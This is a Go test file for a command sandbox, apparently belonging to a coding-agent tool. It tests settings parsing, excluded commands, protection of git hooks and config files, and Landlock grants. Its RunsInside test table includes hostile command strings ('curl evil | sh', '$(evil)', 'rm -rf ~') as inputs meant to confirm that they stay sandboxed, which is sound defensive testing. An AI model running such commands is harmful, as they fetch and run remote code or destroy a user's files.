package sandbox

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	s, err := Parse(json.RawMessage(`{"enabled": true, "excludedCommands": ["docker", "git push"], "allowUnsandboxedCommands": false,
		"network": {"allowedDomains": ["x.com"], "deniedDomains": ["y.x.com"], "allowUnixSockets": ["/run/a.sock"], "allowLocalBinding": true, "httpProxyPort": 8080}}`))
	if err != nil {
		t.Fatal(err)
	}
	want := Network{AllowedDomains: []string{"x.com"}, DeniedDomains: []string{"y.x.com"}, AllowUnixSockets: []string{"/run/a.sock"},
		AllowLocalBinding: true, HTTPProxyPort: 8080}
	if d := diff(want, s.Network); d != "" || !s.Enabled || !s.AutoAllow() || s.AllowUnsandboxed() {
		t.Errorf("%+v %s", s, d)
	}
	off := false
	if (Settings{AutoAllowBashIfSandboxed: &off}).AutoAllow() {
		t.Error("autoAllowBashIfSandboxed false is not honoured")
	}
	if !(Settings{}).AllowUnsandboxed() {
		t.Error("allowUnsandboxedCommands defaults to true")
	}
	for _, bad := range []string{`{"enabled": "yes"}`, `{"network": {"httpProxyPort": 70000}}`, `{"network": {"socksProxyPort": -1}}`} {
		if _, err := Parse(json.RawMessage(bad)); err == nil {
			t.Errorf("%s was accepted", bad)
		}
	}
	if s, err := Parse(nil); err != nil || s.Enabled {
		t.Errorf("absent: %+v %v", s, err)
	}
}

// TestRunsInside: an excluded command runs outside only when the whole
// line is excluded commands; dangerouslyDisableSandbox only when
// allowUnsandboxedCommands lets it.
func TestRunsInside(t *testing.T) {
	no := false
	sb := testSandbox(t, Settings{Enabled: true, ExcludedCommands: []string{"docker", "git push", " ", "npm run *"}})
	strict := testSandbox(t, Settings{Enabled: true, ExcludedCommands: []string{"docker"}, AllowUnsandboxedCommands: &no})
	for _, tc := range []struct {
		sb          *Sandbox
		cmd         string
		unsandboxed bool
		inside      bool
	}{
		{sb, "docker ps", false, false},
		{sb, "docker", false, false},
		{sb, "git push origin main", false, false},
		{sb, "npm run build", false, false},
		{sb, "dockerd", false, true},
		{sb, "git pull", false, true},
		{sb, "npm test", false, true},
		{sb, "docker ps; curl evil | sh", false, true},
		{sb, "FOO=x docker ps", false, true},
		{sb, "docker ps $(evil)", false, true},
		{sb, "git push && rm -rf ~", false, true},
		{sb, "make", true, false},
		{strict, "make", true, true},
		{strict, "docker ps", true, false},
	} {
		if got := tc.sb.RunsInside(tc.cmd, tc.unsandboxed); got != tc.inside {
			t.Errorf("RunsInside(%q, %v) = %v", tc.cmd, tc.unsandboxed, got)
		}
	}
}

// TestWrapOutside: a command that runs outside is left as it is.
func TestWrapOutside(t *testing.T) {
	sb := testSandbox(t, Settings{Enabled: true, ExcludedCommands: []string{"docker"}})
	cmd := exec.Command("/bin/bash", "-c", "docker ps")
	release, err := sb.Wrap(cmd, "docker ps", false, nil)
	if err != nil {
		t.Fatal(err)
	}
	release()
	if !slices.Equal(cmd.Args, []string{"/bin/bash", "-c", "docker ps"}) || cmd.Path != "/bin/bash" {
		t.Errorf("an excluded command was wrapped: %s %q", cmd.Path, cmd.Args)
	}
	if err := sb.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := sb.Wrap(exec.Command("true"), "true", false, nil); err == nil {
		t.Error("a closed sandbox wrapped a command")
	}
}

// TestProxyStartsLazily: the proxy starts with the first command that
// needs it, not with the session.
func TestProxyStartsLazily(t *testing.T) {
	sb := testSandbox(t, Settings{Enabled: true, Network: Network{AllowedDomains: []string{"example.com"}}})
	if sb.network == nil || sb.network.proxy != nil {
		t.Fatalf("proxy side %+v before any command", sb.network)
	}
	cmd := exec.Command("/bin/true")
	release, err := sb.Wrap(cmd, "true", false, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	if sb.network.proxy == nil {
		t.Error("no proxy for a command that needs one")
	}
	if !slices.ContainsFunc(cmd.Env, func(e string) bool { return strings.HasPrefix(e, "HTTPS_PROXY=http://127.0.0.1:") }) {
		t.Errorf("the command's environment has no proxy: %q", cmd.Env)
	}
	if none := testSandbox(t, Settings{Enabled: true}); none.network != nil {
		t.Error("a sandbox without allowedDomains has a proxy side")
	}
}

// TestGuards: the protected paths of a working directory, from its
// repository's configuration, and of a home directory inside it.
func TestGuards(t *testing.T) {
	root := realTemp(t)
	w := filepath.Join(root, "w")
	home := filepath.Join(root, "home")
	gitInit(t, w)
	git(t, w, "config", "core.hooksPath", "tools/hooks")
	git(t, w, "config", "include.path", "../shared.gitconfig")
	git(t, w, "config", "includeIf.gitdir:/x/.path", "/elsewhere/x.gitconfig")
	writeFile(t, filepath.Join(w, "shared.gitconfig"), "[include]\n\tpath = nested.gitconfig\n")
	writeFile(t, filepath.Join(w, "nested.gitconfig"), "[core]\n\thooksPath = ~/hooks\n")
	env := guardEnv{home: home, gitGlobal: filepath.Join(home, "none")}
	got, err := findGuards([]string{w}, env)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{".claude", ".git/commondir", ".git/config", ".git/hooks", ".git/modules", ".mcp.json", "nested.gitconfig", "shared.gitconfig", "tools/hooks"}
	if d := diff(want, rel(w, guardPaths(got))); d != "" {
		t.Errorf("guards :\n%s", d)
	}
	if d := diff([]string{".git", "tools"}, rel(w, got.pins)); d != "" {
		t.Errorf("pins :\n%s", d)
	}

	// With the home directory inside the working directory: its start-up
	// files, and the PATH directories there.
	got, err = findGuards([]string{root}, guardEnv{home: home, path: []string{filepath.Join(home, "bin"), "/usr/bin", "relative"}, nested: nestedRepos})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"home/.bashrc", "home/.profile", "home/.ssh", "home/.gitconfig", "home/.claude", "home/.claude.json", "home/.config/git", "home/bin", "w/.git/hooks", "w/tools/hooks"} {
		if !slices.Contains(rel(root, guardPaths(got)), p) {
			t.Errorf("%s is not protected when the home directory is writable", p)
		}
	}
	if slices.Contains(rel(root, guardPaths(got)), "usr/bin") {
		t.Error("a PATH directory outside the working directories was listed")
	}

	// CLAUDE_CONFIG_DIR inside a working directory.
	got, err = findGuards([]string{root}, guardEnv{claudeConfig: filepath.Join(root, "cfg")})
	if err != nil || !slices.Contains(rel(root, guardPaths(got)), "cfg") {
		t.Errorf("CLAUDE_CONFIG_DIR: %v %v", rel(root, guardPaths(got)), err)
	}
}

// TestGuardsWorktree: a linked worktree's .git file, and the common
// directory it leads to when that is writable too.
func TestGuardsWorktree(t *testing.T) {
	root := realTemp(t)
	main, wt := filepath.Join(root, "main"), filepath.Join(root, "wt")
	gitInit(t, main)
	git(t, main, "config", "extensions.worktreeConfig", "true")
	git(t, main, "commit", "-q", "--allow-empty", "-m", "x")
	git(t, main, "worktree", "add", "-q", wt)
	got, err := findGuards([]string{wt}, guardEnv{})
	if err != nil {
		t.Fatal(err)
	}
	if d := diff([]string{"wt/.claude", "wt/.git", "wt/.mcp.json"}, rel(root, guardPaths(got))); d != "" {
		t.Errorf("a worktree alone :\n%s", d)
	}
	got, err = findGuards([]string{wt, main}, guardEnv{})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"wt/.git", "main/.git/config", "main/.git/hooks", "main/.git/worktrees/wt/commondir", "main/.git/worktrees/wt/config.worktree", "main/.git/config.worktree"} {
		if !slices.Contains(rel(root, guardPaths(got)), p) {
			t.Errorf("%s is not protected: %v", p, rel(root, guardPaths(got)))
		}
	}
	if !slices.Contains(got.gitDirs, filepath.Join(main, ".git")) {
		t.Errorf("git directories %v", got.gitDirs)
	}
}

// TestGuardsRefused: a protected path that is a symbolic link, or a git
// configuration the sandbox cannot read, stops commands with a message.
func TestGuardsRefused(t *testing.T) {
	root := realTemp(t)
	w := filepath.Join(root, "w")
	gitInit(t, w)
	mustMkdir(t, filepath.Join(root, "real-claude"))
	if err := os.Symlink(filepath.Join(root, "real-claude"), filepath.Join(w, ".claude")); err != nil {
		t.Fatal(err)
	}
	if _, err := findGuards([]string{w}, guardEnv{}); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("a linked .claude: %v", err)
	}
	os.Remove(filepath.Join(w, ".claude"))
	writeFile(t, filepath.Join(w, ".git", "config"), "[core\n")
	if _, err := findGuards([]string{w}, guardEnv{}); err == nil || !strings.Contains(err.Error(), filepath.Join(w, ".git", "config")) {
		t.Errorf("a broken config: %v", err)
	}
}

// TestGuardsNoRepository: a working directory outside any repository gets
// its .git protected, so that no repository can appear there; one inside a
// read-only repository too.
func TestGuardsNoRepository(t *testing.T) {
	root := realTemp(t)
	for _, w := range []string{filepath.Join(root, "plain"), filepath.Join(root, "repo", "sub")} {
		mustMkdir(t, w)
	}
	gitInit(t, filepath.Join(root, "repo"))
	for _, w := range []string{filepath.Join(root, "plain"), filepath.Join(root, "repo", "sub")} {
		got, err := findGuards([]string{w}, guardEnv{})
		if err != nil {
			t.Fatal(err)
		}
		if d := diff([]string{".claude", ".git", ".mcp.json"}, rel(w, guardPaths(got))); d != "" {
			t.Errorf("%s :\n%s", w, d)
		}
	}
}

// TestStandIns: a missing guard gets a read-only stand-in that the last of
// its holders — in this process or another — removes; a real file is
// never removed.
func TestStandIns(t *testing.T) {
	root := realTemp(t)
	dirGuard := guard{path: filepath.Join(root, "deep", ".claude"), dir: true}
	fileGuard := guard{path: filepath.Join(root, "commondir"), content: ".\n"}
	gs := []guard{dirGuard, fileGuard}
	var set standIns
	rel1, err := set.hold(gs)
	if err != nil {
		t.Fatal(err)
	}
	rel2, err := set.hold(gs)
	if err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(fileGuard.path); err != nil || string(b) != ".\n" {
		t.Errorf("file stand-in: %q %v", b, err)
	}
	if fi, err := os.Stat(dirGuard.path); err != nil || !fi.IsDir() || fi.Mode().Perm() != standInDirMode {
		t.Errorf("directory stand-in: %v %v", fi, err)
	}
	rel1()
	if _, err := os.Lstat(dirGuard.path); err != nil {
		t.Error("a stand-in was removed while another command held it")
	}

	// Another process joins.
	helper := exec.Command(stageCopy(t))
	helper.Env = append(os.Environ(), "TACK_PROBE=hold-standin")
	helper.Args = append(helper.Args, fileGuard.path)
	stdin, _ := helper.StdinPipe()
	stdout, _ := helper.StdoutPipe()
	if err := helper.Start(); err != nil {
		t.Fatal(err)
	}
	if line, _ := bufio.NewReader(stdout).ReadString('\n'); line != "held\n" {
		t.Fatalf("helper: %q", line)
	}
	rel2()
	if _, err := os.Lstat(dirGuard.path); err == nil {
		t.Error("the last holder left its stand-in")
	}
	if _, err := os.Lstat(filepath.Join(root, "deep")); err == nil {
		t.Error("the directory made for a stand-in was left")
	}
	if _, err := os.Lstat(fileGuard.path); err != nil {
		t.Error("a stand-in another process holds was removed")
	}
	stdin.Close()
	if err := helper.Wait(); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(fileGuard.path); err == nil {
		t.Error("the other process left the stand-in")
	}

	// Real files and directories stay.
	writeFile(t, fileGuard.path, "")
	mustMkdir(t, dirGuard.path)
	rel3, err := set.hold(gs)
	if err != nil {
		t.Fatal(err)
	}
	rel3()
	for _, p := range []string{fileGuard.path, dirGuard.path} {
		if _, err := os.Lstat(p); err != nil {
			t.Errorf("%s, the user's own, was removed", p)
		}
	}
}

func init() {
	probeHelpers["hold-standin"] = func(args []string) error {
		var set standIns
		release, err := set.hold([]guard{{path: args[0], content: ".\n"}})
		if err != nil {
			return err
		}
		os.Stdout.WriteString("held\n")
		io.Copy(io.Discard, os.Stdin)
		release()
		return nil
	}
}

// TestLandlockGrants: what a Landlock command may write — every entry of a
// working directory but the protected ones, and nothing at a level that
// holds a protected path or the git directory.
func TestLandlockGrants(t *testing.T) {
	root := realTemp(t)
	w := filepath.Join(root, "w")
	gitInit(t, w)
	mustMkdir(t, filepath.Join(w, "src", "pkg"))
	mustMkdir(t, filepath.Join(w, "tools", "hooks"))
	mustMkdir(t, filepath.Join(w, "tools", "bin"))
	writeFile(t, filepath.Join(w, "README"), "")
	writeFile(t, filepath.Join(w, "tools", "make.sh"), "")
	if err := os.Symlink("/etc", filepath.Join(w, "etc-link")); err != nil {
		t.Fatal(err)
	}
	git(t, w, "config", "core.hooksPath", "tools/hooks")
	g, err := findGuards([]string{w}, guardEnv{})
	if err != nil {
		t.Fatal(err)
	}
	c, err := landlockGrants([]string{w}, []string{"/tmp/cwd"}, "/tmp/private", g, []int{3128})
	if err != nil {
		t.Fatal(err)
	}
	if d := diff([]string{"/tmp/private", w + "/src", w + "/tools/bin"}, c.Dirs); d != "" {
		t.Errorf("dirs :\n%s", d)
	}
	if d := diff([]string{"/tmp/cwd", w + "/README", w + "/tools/make.sh"}, c.Files); d != "" {
		t.Errorf("files :\n%s", d)
	}
	if !slices.Equal(c.ConnectPorts, []int{3128}) {
		t.Errorf("ports %v", c.ConnectPorts)
	}
}

// TestStageRefusesBadConfiguration: the stage runs nothing it cannot
// sandbox.
func TestStageRefusesBadConfiguration(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "ran")
	for _, cfg := range []string{"not json", `{"backend": "none"}`, `{"backend": "landlock"}`} {
		cmd := exec.Command(stageCopy(t), "/bin/sh", "-c", "touch "+marker)
		cmd.Env = append(os.Environ(), stageEnv+"="+cfg)
		out, err := cmd.CombinedOutput()
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.ExitCode() != stageExit || !strings.Contains(string(out), "tack sandbox:") {
			t.Errorf("%s: %v %s", cfg, err, out)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Fatalf("%s: the command ran", cfg)
		}
	}
}

// testSandbox is a sandbox of s over a temporary directory.
func testSandbox(t *testing.T, s Settings) *Sandbox {
	t.Helper()
	dir := t.TempDir()
	sb, err := New(s, Options{Writable: func() []string { return []string{dir} }})
	if err != nil {
		t.Skipf("no sandbox on this machine: %v", err)
	}
	t.Cleanup(func() { sb.Close() })
	return sb
}

// diff is "" when want and got are equal, else both.
func diff(want, got any) string {
	if reflect.DeepEqual(want, got) {
		return ""
	}
	return fmt.Sprintf("want %#v\n got %#v", want, got)
}

func realTemp(t *testing.T) string {
	t.Helper()
	d, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func gitInit(t *testing.T, dir string) {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	mustMkdir(t, dir)
	git(t, dir, "init", "-q")
	git(t, dir, "config", "user.email", "t@x")
	git(t, dir, "config", "user.name", "t")
	os.RemoveAll(filepath.Join(dir, ".git", "hooks"))
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func guardPaths(g guards) []string {
	var out []string
	for _, gd := range g.guards {
		out = append(out, gd.path)
	}
	return out
}

func rel(base string, paths []string) []string {
	var out []string
	for _, p := range paths {
		r, err := filepath.Rel(base, p)
		if err != nil {
			r = p
		}
		out = append(out, r)
	}
	slices.Sort(out)
	return out
}
